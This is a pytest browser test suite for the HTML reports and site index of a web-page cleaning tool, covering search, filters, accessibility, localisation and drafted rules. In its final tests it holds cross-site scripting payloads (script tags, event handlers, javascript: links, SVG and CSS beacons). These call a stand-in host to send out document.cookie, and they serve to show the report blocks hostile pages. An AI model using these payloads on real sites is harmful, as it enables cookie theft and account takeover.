"""The reports in headless Chromium: filter, search, walk, copy a correction; no request, no error, no script of a page."""

from __future__ import annotations

import re
import shlex
import time
import tomllib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from cleaners.pipeline import read
from cleaners.report.explain import render_report
from cleaners.rules import Rule, Where
from cleaners.template.file import read_hints
from cleaners.values import Label
from crawler.report.index import FIRST_ROWS, render_index
from crawler.report.survey import read_survey
from dute.cli import main
from tests.axe import NOTHING, RUN, read_axe, violations
from tests.browser import PHONE, WIDE, chromium, complaints, requested, resize
from tests.invented_rows import MARKS, OUTCOMES, invented_rows
from tests.report.test_explain import STORY

pytestmark = pytest.mark.slow  # a browser takes seconds to start

CALL = "关注桥头早点铺，第12期福利等你来"


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    with chromium(tmp_path_factory.mktemp("profile")) as opened:
        yield opened


@pytest.fixture
def opened(browser: Any, tmp_path: Path) -> Iterator[Any]:
    """The report of a page, opened; at the end nothing was requested and nothing complained about."""
    open_report(browser, tmp_path, STORY)
    yield browser
    assert (requested(browser), complaints(browser)) == ([], [])


def open_report(browser: Any, folder: Path, page: str, name: str = "page.html", url: str | None = None) -> None:
    file = folder / "report.html"
    file.write_text(render_report(name, read(page, url)), "utf-8")
    resize(browser, WIDE)
    browser.get(file.as_uri())


def shown(browser: Any) -> list[str]:
    """The labels of the blocks that are shown, in order."""
    return browser.execute_script(  # type: ignore[no-any-return]
        "return [...document.querySelectorAll('.block')].filter(b => b.offsetParent).map(b => b.dataset.label)"
    )


def press(browser: Any, *keys: str) -> None:
    """Keys as a person presses them, wherever the focus is."""
    from selenium.webdriver import ActionChains

    for key in keys:
        ActionChains(browser).send_keys(key).perform()


def find(browser: Any, selector: str) -> Any:
    return browser.find_element("css selector", selector)


def text_of(browser: Any, selector: str) -> str:
    return str(browser.execute_script("return document.querySelector(arguments[0]).textContent", selector))


def draft(browser: Any, label: str, words: str = CALL) -> list[str]:
    """What the panel drafts when the block with these words is to have another label."""
    script = "[...document.querySelectorAll('.block')].find(b => b.textContent.includes(arguments[0])).click()"
    browser.execute_script(script, words)
    choose = "const c = document.querySelector('#chosen'); c.value = arguments[0]; c.dispatchEvent(new Event('change'))"
    browser.execute_script(choose, label)
    return [code.get_attribute("textContent") for code in browser.find_elements("css selector", "#drafts code")]


def test_the_legend_filters_by_label(opened: Any) -> None:
    assert shown(opened) == ["navigation", "headline", "body", "image", "body", "body", "subhead", "credit"]
    find(opened, ".chip[data-label=body]").click()
    assert shown(opened) == ["body"] * 3
    assert text_of(opened, "#shown").startswith("3 of 8 blocks, ")
    find(opened, ".chip[data-label=credit]").click()
    assert shown(opened) == ["body"] * 3 + ["credit"]
    find(opened, "#reset").click()
    find(opened, "[data-show=removed]").click()
    assert shown(opened) == ["navigation", "credit"]
    find(opened, "[data-show=kept]").click()
    assert shown(opened) == ["headline", "body", "image", "body", "body", "subhead"]
    press(opened, "\ue00c")  # Esc
    assert len(shown(opened)) == 8


def test_search_finds_words_labels_and_rules(opened: Any) -> None:
    press(opened, "/")
    press(opened, "暖色")
    assert shown(opened) == ["body"]
    assert opened.execute_script("return CSS.highlights.get('found').size") == 1
    find(opened, "#search").clear()
    find(opened, "#search").send_keys("credits.")
    assert shown(opened) == ["credit"]
    find(opened, "#search").send_keys("没有的词")
    assert shown(opened) == []
    assert find(opened, "#none").is_displayed()
    press(opened, "\ue00c")
    assert len(shown(opened)) == 8


def test_the_keyboard_walks_over_the_blocks(opened: Any) -> None:
    current = "return document.querySelector('.block.is-current')?.dataset.label ?? null"
    assert opened.execute_script(current) is None
    press(opened, "j", "j", "j")
    assert opened.execute_script(current) == "body"
    assert "修桥的工人" in text_of(opened, "#article .is-current")
    press(opened, "k")
    assert opened.execute_script(current) == "headline"
    press(opened, "\ue007")  # Enter
    assert find(opened, "#panel").is_displayed()
    press(opened, "\ue00c")
    assert not find(opened, "#panel").is_displayed()
    press(opened, "?")
    assert find(opened, "#help").is_displayed()
    press(opened, "\ue00c")
    assert not find(opened, "#help").is_displayed()


#: A menu of five lines above the story and its link home.
MENU = "".join(f'<li><a href="/{number}">栏目{number}</a></li>' for number in range(5))
LONG = STORY.replace("<body>", f"<body><nav><ul>{MENU}</ul></nav>", 1)


def test_runs_of_removed_blocks_fold(browser: Any, tmp_path: Path) -> None:
    open_report(browser, tmp_path, LONG)
    whole = browser.execute_script("return document.querySelectorAll('.block').length")
    (fold,) = browser.find_elements("css selector", ".fold button")
    assert re.fullmatch(r"6 removed blocks, \d+ characters: navigation", fold.text)
    assert "navigation" not in shown(browser)
    assert len(shown(browser)) == whole - 6
    press(browser, "j")  # walks over what is shown
    assert browser.execute_script("return document.querySelector('.block.is-current').dataset.label") == "headline"
    fold.click()
    assert (fold.get_attribute("aria-expanded"), len(shown(browser))) == ("true", whole)
    fold.click()
    find(browser, "#search").send_keys("栏目")
    assert shown(browser) == ["navigation"] * 5  # a search opens what it finds
    assert not fold.is_displayed()
    press(browser, "\ue00c")
    assert len(shown(browser)) == whole - 6
    assert (requested(browser), complaints(browser)) == ([], [])


def speak(browser: Any, language: str) -> None:
    """The language of the documents that are opened from now on."""
    browser.execute_script("localStorage.setItem('dute-language', arguments[0])", language)


@pytest.mark.parametrize("language", ["en", "zh"])
def test_the_report_of_a_page_breaks_no_rule_of_accessibility(browser: Any, tmp_path: Path, language: str) -> None:
    source = read_axe()
    open_report(browser, tmp_path, LONG)
    speak(browser, language)
    assert violations(browser, (tmp_path / "report.html").as_uri(), source) == NOTHING
    assert browser.execute_script("return document.documentElement.lang") == language
    find(browser, ".is-text .tag").click()
    browser.execute_script(source)
    assert browser.execute_async_script(RUN) == []  # the panel
    speak(browser, "en")


@pytest.mark.parametrize("language", ["en", "zh"])
def test_the_index_breaks_no_rule_of_accessibility(browser: Any, tmp_path: Path, language: str) -> None:
    source = read_axe()
    document = render_index(read_survey("桥头", invented_rows()), outcomes=OUTCOMES, marks=MARKS)
    (tmp_path / "index.html").write_text(document, "utf-8")
    browser.get((tmp_path / "index.html").as_uri())
    speak(browser, language)
    assert violations(browser, (tmp_path / "index.html").as_uri(), source) == NOTHING
    assert browser.execute_script("return document.documentElement.lang") == language
    speak(browser, "en")


#: What a reader sees or hears in the part of a document that is shown, but for code, keys and the page's own words.
HEARD = """
const own = "code, kbd, pre, script, style, noscript, blockquote, .words[lang], article > *, .fields dd, h1[lang], body[data-name] .origin, .address, .media, .title, .mark";
const heard = [];
const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
while (walker.nextNode()) if (!walker.currentNode.parentElement.closest(own)) heard.push(walker.currentNode.data);
for (const name of ["aria-label", "placeholder", "title", "label"])
  for (const element of document.querySelectorAll(`[${name}]`)) heard.push(element.getAttribute(name));
return [document.title, ...heard].map((text) => text.trim()).filter((text) => /[A-Za-z]{2}/.test(text));
"""


def test_the_report_of_a_page_speaks_chinese(opened: Any) -> None:
    press(opened, *["\ue004"] * 3)  # Tab, over the skip link and the search
    assert opened.execute_script("return document.activeElement.id") == "language"
    press(opened, "\ue007")  # Enter
    assert opened.execute_script("return document.documentElement.lang") == "zh"
    assert text_of(opened, "#shown") == "8 段，133 字"
    find(opened, ".chip[data-label=body]").click()
    assert text_of(opened, "#shown") == "8 段中的 3 段，102 字"
    find(opened, "#search").send_keys("编审")  # the Chinese name of a label
    find(opened, ".chip[data-label=body]").click()
    assert shown(opened) == ["credit"]
    press(opened, "\ue00c", "\ue00c")
    rule, hint, _ = draft(opened, "promo")
    assert rule.startswith("Rule(")
    assert "# 或整个元素：" in hint
    assert text_of(opened, ".note") == "规则对所有站点有效，提示只对这个站点有效。补上其中一项，测试页面才会通过。"
    press(opened, "\ue00c")
    draft(opened, "body", "编辑 佟悦")
    assert text_of(opened, ".why") == "现在的标签：编审 · 规则：credits.line（编审署名行：整行都是职务加姓名）"
    heard = opened.execute_script(HEARD)
    abouts = [text for text in heard if "cleaners/rules/" in text or "seeds/" in text or "keeps" in text]
    assert set(heard) - set(abouts) == {
        *("English", "English: switch to English", "桥上的灯又亮了 · dute", "没有符合的段落，按 Esc 显示全部。"),
    }
    press(opened, "\ue00c")
    opened.refresh()  # the choice is remembered
    assert text_of(opened, "#reset") == "显示全部"
    find(opened, "#language").click()
    assert opened.execute_script("return document.documentElement.lang") == "en"
    assert text_of(opened, ".why") == "Label:  · Rule: "
    languages = "return [...document.querySelectorAll('article [lang], article')].map((one) => one.lang)"
    assert set(opened.execute_script(languages)) == {"zh", "en"}  # the page's words, and ours between them


def test_light_and_dark(opened: Any) -> None:
    ground = "return getComputedStyle(document.body).backgroundColor"
    light = opened.execute_script(ground)
    resize(opened, WIDE, dark=True)
    dark = opened.execute_script(ground)
    assert light != dark
    press(opened, "t")
    assert opened.execute_script(ground) == light
    find(opened, "#theme").click()
    assert opened.execute_script(ground) == dark
    opened.execute_script("localStorage.clear()")


@pytest.mark.parametrize("language", ["zh", "en"])
def test_a_phone_shows_one_column_and_nothing_beside_the_screen(opened: Any, language: str) -> None:
    speak(opened, language)
    opened.refresh()
    speak(opened, "en")
    resize(opened, PHONE)
    assert not find(opened, "#article").is_displayed()
    find(opened, "[data-view=article]").click()
    assert find(opened, "#article").is_displayed()
    assert not find(opened, "#page").is_displayed()
    assert opened.execute_script("return document.documentElement.scrollWidth") <= PHONE[0]


def test_a_drafted_rule_proves_itself(opened: Any) -> None:
    rule_text, hint_text, command = draft(opened, "promo")
    rule = eval(rule_text, {"Rule": Rule, "Label": Label, "Where": Where})  # noqa: S307 - what a person would paste
    assert (rule.label, rule.drops) == (Label.PROMO, (CALL,))
    assert rule.keeps[0].startswith("关注桥头的人都知道")  # the sentence that begins most like it
    assert rule.matches("关注桥头早点铺,第13期福利等你来")
    hint = read_hints(tomllib.loads(hint_text)["page"], "draft")
    assert (hint.texts[0].label, hint.texts[0].what) == (Label.PROMO, "关注桥头早点铺,第#期福利等你来")
    assert shlex.split(command) == [
        *("dute", "fixture", "add", "page.html", "--site", "site", "--case", "promo-not-subhead-6"),
        *("--gone", CALL, "--label", "promo"),
    ]


def test_a_hint_that_was_drafted_does_what_it_says(opened: Any) -> None:
    from cleaners import Template, clean

    hint = read_hints(tomllib.loads(draft(opened, "promo")[1])["page"], "draft")
    assert CALL in clean(STORY).text
    whole = read_hints(tomllib.loads(draft(opened, "promo")[1].replace("# elements", "elements"))["page"], "draft")
    assert whole.elements[0].what == "body > div.text"
    assert CALL not in clean(STORY, template=Template(hints=hint)).text


def test_the_command_that_was_drafted_adds_the_fixture(
    opened: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "page.html").write_text(STORY, "utf-8")
    (tmp_path / "fixtures").mkdir()
    monkeypatch.chdir(tmp_path)
    assert main(shlex.split(draft(opened, "promo")[2])[1:]) == 0
    assert (tmp_path / "fixtures" / "site" / "promo-not-subhead-6" / "checks.toml").is_file()


def test_what_a_rule_took_wrongly_becomes_its_keep(opened: Any) -> None:
    keep, hint, command = draft(opened, "body", "编辑 佟悦")
    assert keep.startswith("# credits.line: add to its keeps")
    assert '"编辑 佟悦"' in keep
    assert read_hints(tomllib.loads(hint)["page"], "draft").body[0].what == "body"
    assert "--kept '编辑 佟悦'" in command


def test_a_snippet_is_copied(opened: Any) -> None:
    allow = {"permissions": ["clipboardReadWrite", "clipboardSanitizedWrite"]}
    opened.execute_cdp_cmd("Browser.grantPermissions", allow)
    rule_text = draft(opened, "promo")[0]
    find(opened, "#drafts .copy").click()
    deadline = time.monotonic() + 5
    while text_of(opened, "#drafts .copy") != "Copied" and time.monotonic() < deadline:
        time.sleep(0.02)
    assert text_of(opened, "#drafts .copy") == "Copied"
    assert opened.execute_async_script("navigator.clipboard.readText().then(arguments[0])") == rule_text


@pytest.fixture
def index(browser: Any, tmp_path: Path) -> Iterator[Any]:
    """The index of an invented site with a report of its most doubtful page, opened."""
    survey = read_survey("桥头", invented_rows())
    worst = survey.doubtful()[0][0]
    (tmp_path / "pages").mkdir()
    (tmp_path / "pages" / "x.html").write_text(render_report("x.html", read(STORY), home="../index.html"), "utf-8")
    document = render_index(survey, outcomes=OUTCOMES, marks=MARKS, reports={worst.row: "pages/x.html"})
    (tmp_path / "index.html").write_text(document, "utf-8")
    resize(browser, WIDE)
    browser.get((tmp_path / "index.html").as_uri())
    yield browser
    assert (requested(browser), complaints(browser)) == ([], [])


def test_the_index_is_searched_sorted_and_left_for_a_page(index: Any) -> None:
    shown_rows = "return [...document.querySelectorAll('.page')].filter(r => !r.hidden)"
    assert index.execute_script(f"{shown_rows}.length") == FIRST_ROWS
    press(index, "/")
    press(index, "template_disagrees")
    found = index.execute_script(f"{shown_rows}.map(r => r.textContent)")
    assert 0 < len(found) < 400
    assert all("template_disagrees" in text for text in found)
    assert len(found) > FIRST_ROWS
    assert not find(index, "#more").is_displayed()
    press(index, "\ue00c")
    assert index.execute_script(f"{shown_rows}.length") == FIRST_ROWS
    find(index, "#more").click()
    assert index.execute_script(f"{shown_rows}.length") == 400
    assert index.execute_script(f"{shown_rows}.indexOf(document.activeElement)") == FIRST_ROWS
    index.execute_script("scrollTo(0, 0)")  # the buttons lie under the bar otherwise
    find(index, "[data-sort=characters]").click()
    longest = index.execute_script(f"{shown_rows}.map(r => Number(r.dataset.characters))")
    assert longest == sorted(longest, reverse=True)
    find(index, "[data-sort=score]").click()
    press(index, "j", "\ue007")
    assert text_of(index, "h1") == "桥上的灯又亮了"
    find(index, ".mark a").click()
    assert text_of(index, "h1") == "桥头"


def test_the_index_speaks_chinese(index: Any) -> None:
    find(index, "#language").click()
    assert index.execute_script("return document.documentElement.lang") == "zh"
    assert text_of(index, ".marks li").startswith("自 2025-03-03 起：缺少编审 · 首个页面")
    flags = {"template_disagrees", "date_without_year"}
    heard = index.execute_script(HEARD)
    assert {text for text in heard if not any(text.endswith(flag) for flag in flags)} <= {
        *("English", "English: switch to English", "桥头 · dute 站点报告"),
    }
    assert {text for text in heard if "_" in text} == {"与模板不符 template_disagrees", "日期缺年份 date_without_year"}
    find(index, "#search").send_keys("与模板不符")
    assert 0 < index.execute_script("return document.querySelectorAll('.page:not([hidden])').length") < 400
    index.refresh()
    assert text_of(index, "#more") == "显示全部 400 篇"
    find(index, "#language").click()
    assert text_of(index, "#pages-title").startswith("Pages most doubtful first")


@pytest.mark.parametrize("language", ["en", "zh"])
@pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
def test_the_index_fits_a_phone(index: Any, dark: bool, language: str) -> None:
    speak(index, language)
    index.refresh()
    resize(index, PHONE, dark=dark)
    assert index.execute_script("return document.documentElement.scrollWidth") <= PHONE[0]
    boxes = "return [...document.querySelectorAll('.scroll')].map(box => box.scrollWidth - box.clientWidth)"
    assert index.execute_script(boxes) == [0]
    top = "return document.querySelector('#pages').getBoundingClientRect().top + scrollY"
    assert index.execute_script(top) < 1.5 * PHONE[1]  # figures and the plot over time stand above it, and no list
    paths = (
        "return [...document.querySelectorAll('.spark path')].every(p => p.getBBox().width > 0 || !p.getAttribute('d'))"
    )
    assert index.execute_script(paths)
    speak(index, "en")


FIRE = "window.fired = 1; fetch('https://evil.invalid/' + document.cookie)"

#: Five pages that try to script, load or draw in the report, and how.
HOSTILE = {
    "script in the headline": f"<h1>&lt;script&gt;{FIRE}&lt;/script&gt;桥上的灯</h1><p>&lt;/style&gt;&lt;script&gt;{FIRE}&lt;/script&gt;修桥的工人在天亮前收了工，桥头的早点铺正好开门。</p>",
    "event handlers": f'<h1>灯&lt;img src=x onerror="{FIRE}"&gt;" onmouseover="{FIRE}" x="</h1><p onclick="{FIRE}">\' onfocus=\'{FIRE}\' autofocus tabindex=0 修桥的工人在天亮前收了工，桥头的早点铺正好开门。</p><img src="x.jpg&quot; onerror=&quot;{FIRE}">',
    "javascript: addresses": f'<base href="https://evil.invalid/"><h1>桥上的灯又亮了</h1><p><a href="javascript:{FIRE}">修桥的工人在天亮前收了工</a>，桥头的早点铺正好开门，蒸汽漫过栏杆。</p><img src="javascript:{FIRE}"><img src="https://evil.invalid/pixel.gif"><video src="https://evil.invalid/v.mp4"></video>',
    "end of the script in JSON": f'<script type="application/ld+json">{{"@type":"NewsArticle","headline":"灯\\u003c/script>\\u003cscript>{FIRE}\\u003c/script>","author":"\\u003c/script>\\u003cscript>{FIRE}","image":"https://evil.invalid/\\"onload=\\"x"}}</script><h1>桥上的灯</h1><p>${{{FIRE}}} {{{{ 7*7 }}}} {{% raw %}} 修桥的工人在天亮前收了工，桥头的早点铺正好开门。</p>',
    "SVG and styles": f'<svg onload="{FIRE}"><script>{FIRE}</script></svg><h1>桥上的灯</h1><div class="&quot;&gt;&lt;style&gt;*{{display:none}}&lt;/style&gt; x]{{}}body{{background:url(https://evil.invalid/c)}}" id="b0" style="background:url(https://evil.invalid/s)"><p>&lt;svg onload="{FIRE}"&gt;修桥的工人在天亮前收了工，桥头的早点铺正好开门，蒸汽漫过栏杆。</p></div>',
}


@pytest.mark.parametrize("attack", HOSTILE)
def test_a_page_cannot_script_its_report(browser: Any, tmp_path: Path, attack: str) -> None:
    page = f"<html><head><title>x</title></head><body>{HOSTILE[attack]}<p>编辑 佟悦</p></body></html>"
    name = "'\"><script>window.fired=1</script>.html"
    open_report(browser, tmp_path, page, name, 'https://evil.invalid/"><script>window.fired=1</script>')
    for label in ("promo", "body", "headline"):
        for block in range(browser.execute_script("return document.querySelectorAll('.block').length")):
            browser.execute_script(f"document.querySelectorAll('.block')[{block}].click()")
            browser.execute_script(
                f"const c = document.querySelector('#chosen'); c.value = '{label}'; c.dispatchEvent(new Event('change')); document.querySelector('#panel').close()"
            )
    assert browser.execute_script("return window.fired ?? null") is None
    foreign = (
        "return [...document.querySelectorAll('script, style, img, video, iframe, link, base')].map(e => e.tagName)"
    )
    assert browser.execute_script(foreign) == ["STYLE", "SCRIPT"]
    handlers = "return [...document.querySelectorAll('*')].flatMap(e => e.getAttributeNames()).filter(n => /^on|^style$/.test(n))"
    assert browser.execute_script(handlers) == []
    links = "return [...document.links].map(a => a.protocol).filter(p => p !== 'https:' && p !== 'file:')"
    assert browser.execute_script(links) == []
    assert len(shown(browser)) >= 3  # nothing of the page drew over the report or hid it
    assert (requested(browser), complaints(browser)) == ([], [])


def test_the_tests_would_see_a_request_and_a_breach(browser: Any, tmp_path: Path) -> None:
    file = tmp_path / "leaky.html"
    policy = "<meta http-equiv='Content-Security-Policy' content=\"script-src 'none'\">"
    file.write_text(f"{policy}<img src='missing.png'><script>1</script>", "utf-8")
    browser.get(file.as_uri())
    assert requested(browser) == [(tmp_path / "missing.png").as_uri()]
    assert any("Content Security Policy" in message for message in complaints(browser))
